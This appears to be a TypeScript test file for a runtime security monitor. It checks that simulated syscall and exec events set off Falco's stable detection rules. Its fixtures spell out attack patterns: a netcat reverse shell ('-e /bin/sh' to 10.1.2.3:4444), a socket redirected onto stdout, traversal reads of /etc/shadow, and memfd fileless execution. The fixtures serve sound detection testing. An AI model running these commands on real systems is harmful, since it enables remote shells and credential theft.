// The live pipeline through Falco's stable rules (../shared/compat/falco):
// which sensors they need, and the adapters from Vigil's events to
// RuleEvents (fields as Falco fills them). No kernel: a fake process lookup
// stands for the cache. Run by `npm run test:shared`, which needs ../shared.
import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { LiveAdapter, planLive } from '../src/rules/live.js';
import { RuleEngine } from '../src/rules/engine.js';
import type { ExecEvent } from '../src/sensors/events.js';
import type { SysEvent } from '../src/sensors/sysevent-events.js';
import { falcoRulesPath, testFields } from './rules-helpers.js';
import { CID, EPOCH, START, fileEvent, info, sysEvent, world } from './rules-live-util.js';

/**
 * connect(2) on fd 3, a TCP/IPv4 socket in TCP state `state` with these ends, as the
 * sysevents sensor reports it (`addr`: the sockaddr the caller passed, when it is read).
 */
function tcpConnect(pid: number, ret: number, state: number, local: { ip: string; port: number }, remote: { ip: string; port: number },
  addr?: { family: number; ip: string; port: number }): SysEvent {
  return sysEvent({
    call: 'connect', args: [3, 0, 16, 0, 0, 0], ret,
    file: { fd: 3, ino: 56, dev: 9, mode: 0o140777, path: undefined, pathTruncated: false,
      socket: { family: 2, type: 1, protocol: 6, state, local, remote } },
    ...(addr ? { addr } : {}),
  }, pid);
}

describe('planLive', () => {
  test('the stable rules need exec, opens, links, and ten syscall events', () => {
    const engine = RuleEngine.load([falcoRulesPath('falco_rules.yaml')], { fields: testFields() });
    const plan = planLive(engine.interestingEventTypes());
    assert.equal(plan.execve, true);
    assert.equal(plan.execveat, true);
    assert.equal(plan.procexit, false);
    assert.deepEqual(plan.fileSyscalls, ['open', 'openat', 'openat2', 'link', 'linkat', 'symlink', 'symlinkat']);
    assert.deepEqual(plan.sysCalls, ['connect', 'socket', 'sendto', 'sendmsg', 'dup', 'dup2', 'dup3', 'ptrace', 'init_module', 'finit_module']);
    assert.deepEqual(plan.unsupported, []);
  });
  test('a rule for every type asks for every sensed type; unknown types are reported', () => {
    const all = planLive({ all: true, types: [], except: ['sendto'] });
    assert.ok(all.fileSyscalls.includes('unlinkat') && all.sysCalls.includes('memfd_create') && all.procexit);
    assert.ok(!all.sysCalls.includes('sendto'));
    assert.deepEqual(planLive({ all: false, types: ['openat', 'mount', 'kill'], except: [] }).unsupported, ['kill', 'mount']);
  });
});

describe('LiveAdapter through the stable rules', () => {
  const engine = RuleEngine.load([falcoRulesPath('falco_rules.yaml')], { fields: testFields(), ruleMatching: 'all', hostname: 'vigil-test' });
  const rulesOf = (ev: Parameters<typeof engine.evaluate>[0]) => engine.evaluate(ev).map((a) => a.rule);

  test('an open through "..": fd.name normalised, nameraw as given, proc fields from the cache', () => {
    const { adapter } = world();
    const ev = adapter.fromFile(fileEvent({ syscall: 'openat', op: 'open', path: '/root/../etc/../etc/shadow' }, 400));
    assert.equal(ev.type, 'openat');
    assert.deepEqual(ev.fd, { num: 3, type: 'file', name: '/etc/shadow', nameRaw: '/root/../etc/../etc/shadow' });
    assert.equal(ev.process?.name, 'cat');
    assert.equal(ev.process?.parent?.name, 'systemd');
    assert.deepEqual(rulesOf(ev).sort(), ['Directory traversal monitored file read', 'Read sensitive file untrusted']);
  });

  test('a failed open: fd.num -1, open_file_failed', () => {
    const { adapter } = world();
    const ev = adapter.fromFile(fileEvent({ syscall: 'openat', op: 'open', path: '/etc/../etc/../etc/shadow', ret: -13 }, 400));
    assert.equal(ev.fd?.num, -1);
    assert.deepEqual(rulesOf(ev), ['Directory traversal monitored file read']);
  });

  test('an O_DIRECTORY open is a directory (typechar d): no file rule', () => {
    const { adapter } = world();
    const ev = adapter.fromFile(fileEvent({ syscall: 'openat', op: 'open', path: '/etc/shadow', flags: ['O_RDONLY', 'O_DIRECTORY'] }, 400));
    assert.equal(ev.fd?.type, 'directory');
    assert.deepEqual(rulesOf(ev), []);
  });

  test('dup2 of a TCP socket onto stdout in a container: Redirect STDOUT/STDIN', () => {
    const { adapter } = world();
    const ev = adapter.fromSys(sysEvent({
      call: 'dup2', args: [3, 1, 0, 0, 0, 0], ret: 1,
      file: { fd: 3, ino: 55, dev: 9, mode: 0o140777, path: undefined, pathTruncated: false,
        socket: { family: 2, type: 1, protocol: 6, state: 1, local: { ip: '172.17.0.2', port: 51000 }, remote: { ip: '10.1.2.3', port: 4444 } } },
    }, 300));
    assert.equal(ev.container?.id, CID);
    assert.equal(ev.fd?.type, 'ipv4');
    assert.equal(ev.fd?.l4proto, 'tcp');
    const alerts = engine.evaluate(ev);
    assert.deepEqual(alerts.map((a) => a.rule), ['Redirect STDOUT/STDIN to Network Connection in Container']);
    assert.equal(alerts[0]!.outputFields['fd.name'], '172.17.0.2:51000->10.1.2.3:4444');
    assert.equal(alerts[0]!.outputFields['fd.sip'], '10.1.2.3');
    assert.equal(alerts[0]!.outputFields['proc.aname[2]'], 'containerd-shim');
    assert.equal(alerts[0]!.outputFields['proc.tty'], 0);
  });

  test('dup of a pipe: fd.type pipe, named pipe:[ino]', () => {
    const { adapter } = world();
    const ev = adapter.fromSys(sysEvent({
      call: 'dup', args: [5, 0, 0, 0, 0, 0], ret: 6,
      file: { fd: 5, ino: 777, dev: 14, mode: 0o010600, path: '/', pathTruncated: false, socket: undefined },
    }, 200));
    assert.deepEqual({ type: ev.fd?.type, name: ev.fd?.name, num: ev.fd?.num }, { type: 'pipe', name: 'pipe:[777]', num: 5 });
  });

  test('connect from an ssh client to a public :443: outbound, Disallowed SSH Connection Non Standard Port', () => {
    const { lookup, adapter } = world();
    lookup.add(info({ pid: 500, comm: 'ssh', ppid: 200, args: ['/usr/bin/ssh', '-p', '443', 'example.com'] }));
    const ev = adapter.fromSys(tcpConnect(500, -115, 2, { ip: '192.0.2.10', port: 40000 }, { ip: '198.18.0.1', port: 443 }, { family: 2, ip: '198.18.0.1', port: 443 }));
    assert.equal(ev.res, -115);
    assert.deepEqual(rulesOf(ev), ['Disallowed SSH Connection Non Standard Port']);
    // the same to a private address is not outbound
    const priv = adapter.fromSys(tcpConnect(500, 0, 1, { ip: '10.0.0.2', port: 40000 }, { ip: '10.0.0.9', port: 443 }));
    assert.deepEqual(rulesOf(priv), []);
  });

  test('a failed connect: the remote end from the sockaddr the caller passed', () => {
    const { adapter } = world();
    const ev = adapter.fromSys(tcpConnect(200, -111, 7, { ip: '0.0.0.0', port: 0 }, { ip: '0.0.0.0', port: 0 }, { family: 2, ip: '203.0.113.5', port: 22 }));
    assert.equal(ev.fd?.remote?.ip, '203.0.113.5');
    assert.equal(ev.fd?.remote?.port, 22);
  });

  test('UDP sendto: fd.name_changed when the peer changes, fd.connected false', () => {
    const { adapter } = world();
    const send = (ip: string) => adapter.fromSys(sysEvent({
      call: 'sendto', args: [7, 0, 40, 0, 1, 16], ret: 40,
      file: { fd: 7, ino: 57, dev: 9, mode: 0o140777, path: undefined, pathTruncated: false,
        socket: { family: 2, type: 2, protocol: 17, state: 7, local: { ip: '0.0.0.0', port: 5353 }, remote: { ip: '0.0.0.0', port: 0 } } },
      addr: { family: 2, ip, port: 53 },
    }, 200));
    const a = send('203.0.113.1');
    const b = send('203.0.113.1');
    const c = send('203.0.113.2');
    assert.deepEqual([a.fd?.nameChanged, b.fd?.nameChanged, c.fd?.nameChanged], [true, false, true]);
    assert.equal(a.fd?.connected, false);
    assert.equal(a.fd?.l4proto, 'udp');
    assert.equal(a.fd?.remote?.ip, '203.0.113.1');
  });

  test('ptrace: the request by name; thread.cap_effective from the call', () => {
    const { adapter } = world();
    const ev = adapter.fromSys(sysEvent({ call: 'ptrace', args: [16, 1234, 0, 0, 0, 0], ret: 0 }, 400));
    assert.equal(ev.args?.request, 'PTRACE_ATTACH');
    assert.deepEqual(rulesOf(ev), ['PTRACE attached to process']);
  });

  test('init_module in a container with CAP_SYS_MODULE; not on the host', () => {
    const { adapter } = world();
    const inContainer = adapter.fromSys(sysEvent({ call: 'init_module', args: [0, 64, 0, 0, 0, 0], ret: -38, str: '' }, 300));
    assert.deepEqual(rulesOf(inContainer), ['Linux Kernel Module Injection Detected']);
    const host = adapter.fromSys(sysEvent({ call: 'init_module', args: [0, 64, 0, 0, 0, 0], ret: -38, str: '' }, 400));
    assert.deepEqual(rulesOf(host), []);
    const noCap = adapter.fromSys(sysEvent({ call: 'init_module', args: [0, 64, 0, 0, 0, 0], ret: -1 }, 300));
    (noCap.process as { capEffective?: bigint }).capEffective = 0n;
    assert.deepEqual(rulesOf(noCap), []);
  });

  test('memfd_create: fd memfd:<name>', () => {
    const { adapter } = world();
    const ev = adapter.fromSys(sysEvent({ call: 'memfd_create', args: [0, 1, 0, 0, 0, 0], ret: 4, str: 'payload' }, 400));
    assert.deepEqual({ num: ev.fd?.num, type: ev.fd?.type, name: ev.fd?.name }, { num: 4, type: 'memfd', name: 'memfd:payload' });
    assert.deepEqual(ev.args?.flags, ['MFD_CLOEXEC']);
  });

  test('exec: execve or execveat, exe_flags, proc.exe = argv[0], tty as a number', () => {
    const { lookup, adapter } = world();
    const nc = lookup.get(300)!;
    const e: ExecEvent = { kind: 'exec', timeNs: EPOCH, timeBootNs: START, process: nc, parent: lookup.get(200) };
    const ev = adapter.fromExec(e);
    assert.equal(ev.type, 'execve');
    assert.equal(ev.process?.exe, 'nc');
    assert.deepEqual(ev.process?.args, ['-e', '/bin/sh', '10.1.2.3', '4444']);
    assert.equal(ev.process?.parent?.tty, 34819);
    assert.deepEqual(rulesOf(ev), ['Netcat Remote Code Execution in Container']);
    const memfd = lookup.add(info({ pid: 600, comm: '3', ppid: 400, binary: '/memfd:x', args: ['x'] }));
    const ev2 = adapter.fromExec({ kind: 'exec', timeNs: EPOCH, timeBootNs: START, process: memfd, parent: undefined }, true);
    assert.equal(ev2.type, 'execveat');
    assert.deepEqual(ev2.args?.flags, ['EXE_FROM_MEMFD']);
    assert.deepEqual(rulesOf(ev2), ['Fileless execution via memfd_create']);
  });

  test('symlink and link: evt.arg.target / oldpath', () => {
    const { adapter } = world();
    const s = adapter.fromFile(fileEvent({ syscall: 'symlinkat', op: 'symlink', path: '/tmp/x', target: '/etc', ret: 0 }, 400));
    assert.deepEqual(rulesOf(s), ['Create Symlink Over Sensitive Files']);
    const l = adapter.fromFile(fileEvent({ syscall: 'linkat', op: 'link', path: '/tmp/y', target: '/etc/shadow', ret: 0, flags: [] }, 400));
    assert.deepEqual(rulesOf(l), ['Create Hardlink Over Sensitive Files']);
  });

  test('fs.path.*: canonical and raw names of successful path syscalls, Falco\'s source and target', () => {
    const { adapter } = world();
    const fields = testFields();
    const fs = (ev: ReturnType<typeof adapter.fromFile>) => Object.fromEntries(
      ['name', 'nameraw', 'source', 'sourceraw', 'target', 'targetraw'].map((k) => {
        const f = fields.resolve(`fs.path.${k}`, undefined);
        return [k, f.many ? undefined : f.extract(ev)];
      }).filter(([, v]) => v !== undefined));
    assert.deepEqual(fs(adapter.fromFile(fileEvent({ syscall: 'openat', op: 'open', path: '/etc/shadow', rawPath: '../etc/shadow',
      dev: 2049, ino: 77, eventFlags: { pathTruncated: false, targetTruncated: false, pathError: false, targetError: false, pathOpened: true },
    }, 400))), { name: '/etc/shadow', nameraw: '../etc/shadow' });
    assert.deepEqual(fs(adapter.fromFile(fileEvent({ syscall: 'openat', op: 'open', path: '/etc/nope', ret: -2 }, 400))), {},
      'a failed call has none');
    assert.deepEqual(fs(adapter.fromFile(fileEvent({ syscall: 'unlinkat', op: 'unlink', path: '/tmp/x', rawPath: 'x', ret: 0 }, 400))),
      { name: '/tmp/x', nameraw: 'x' });
    assert.deepEqual(fs(adapter.fromFile(fileEvent({ syscall: 'renameat2', op: 'rename', path: '/a/x', rawPath: 'x', target: '/b/y',
      rawTarget: '../b/y', ret: 0 }, 400))), { source: '/a/x', sourceraw: 'x', target: '/b/y', targetraw: '../b/y' });
    // link: the new name is the source, the existing file the target (as Falco has it).
    assert.deepEqual(fs(adapter.fromFile(fileEvent({ syscall: 'linkat', op: 'link', path: '/tmp/y', target: '/etc/shadow',
      rawTarget: '/etc//shadow', ret: 0 }, 400))), { source: '/tmp/y', sourceraw: '/tmp/y', target: '/etc/shadow', targetraw: '/etc//shadow' });
    assert.deepEqual(fs(adapter.fromFile(fileEvent({ syscall: 'truncate', op: 'truncate', path: '/tmp/x', ret: 0 }, 400))), {},
      'Falco has no fs.path for truncate');
    const opened = adapter.fromFile(fileEvent({ syscall: 'openat', op: 'open', path: '/etc/shadow', dev: 66307, ino: 77 }, 400));
    assert.deepEqual([opened.fd?.dev, opened.fd?.ino], [66307, 77]);
    const major = fields.resolve('fd.dev.major', undefined);
    const minor = fields.resolve('fd.dev.minor', undefined);
    assert.ok(!major.many && !minor.many);
    assert.deepEqual([major.extract(opened), minor.extract(opened)], [259, 3]);
  });

  test('a process the cache does not know: what the record said', () => {
    const { adapter } = world();
    const ev = adapter.fromSys(sysEvent({ call: 'ptrace', args: [0, 0, 0, 0, 0, 0], task: {
      pid: 9999, tid: 9999, uid: 1, gid: 1, euid: 1, egid: 1, comm: 'ghost', startBootNs: START, cgroupId: 1n, capEffective: 0n,
    } }, 9999));
    assert.equal(ev.process?.name, 'ghost');
    assert.deepEqual(rulesOf(ev), ['PTRACE anti-debug attempt']);
  });
});
